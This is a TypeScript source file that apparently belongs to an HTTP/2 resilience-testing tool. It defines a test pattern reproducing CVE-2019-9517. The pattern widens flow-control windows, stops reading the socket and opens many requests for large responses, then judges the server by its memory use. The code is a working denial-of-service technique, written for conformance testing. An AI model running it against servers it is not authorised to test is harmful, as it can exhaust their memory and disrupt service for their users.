/**
 * CVE-2019-9517: HTTP/2 windows opened wide while the TCP window stays shut (the attacker never reads),
 * then requests for large responses: whatever the target does not bound, it buffers.
 */
import { MAX_WINDOW_BYTES, Setting, windowUpdateFrame, DEFAULT_WINDOW_BYTES } from '../../h2/frames.ts';
import { Engagement } from '../engagement.ts';
import { headersFrame, requestBlock } from '../frames.ts';
import { answer, notDelivered } from './answers.ts';
import { definePattern } from './types.ts';

export default definePattern({
  id: 'internal-data-buffering',
  title: 'Internal data buffering',
  cve: 'CVE-2019-9517',
  year: 2019,
  summary: 'the largest HTTP/2 windows, requests for large responses, and a socket that is never read',
  expected: 'nothing to answer; the target must bound what it buffers for a peer that does not read (§10.5): RSS is the judge',
  rfc: 'RFC 9113 §6.9, §10.5',
  defaults: { streams: 100, holdMs: 2000 },
  scaled: ['streams'],
  async run(ctx, p) {
    const e = new Engagement(ctx, 'requests for large responses', p.streams);
    const peer = await e.open({
      handshake: true,
      settings: [
        [Setting.ENABLE_PUSH, 0],
        [Setting.INITIAL_WINDOW_SIZE, MAX_WINDOW_BYTES],
      ],
    });
    if (peer !== null) {
      peer.pauseReading();
      const streams = Math.min(p.streams, peer.settings.maxConcurrentStreams ?? p.streams);
      e.unitsPlanned = streams;
      const block = requestBlock({ method: 'GET', authority: ctx.target.authority, path: ctx.paths.large });
      const open = windowUpdateFrame(0, MAX_WINDOW_BYTES - DEFAULT_WINDOW_BYTES);
      e.sent(
        await peer.writeUnits(
          streams,
          (i) =>
            i === 0
              ? [open, headersFrame(1, block, { endStream: true, endHeaders: true })]
              : headersFrame(2 * i + 1, block, { endStream: true, endHeaders: true }),
          ctx.budget,
        ),
      );
      await e.hold(p.holdMs);
    }
    return e.finish();
  },
  judge(o) {
    if (o.targetProtocolErrors.length > 0) return answer('unexpected', o, 'the target broke the protocol while answering');
    return notDelivered(o) ?? answer('expected', o, 'no answer is owed; what the target buffered shows in its RSS');
  },
});
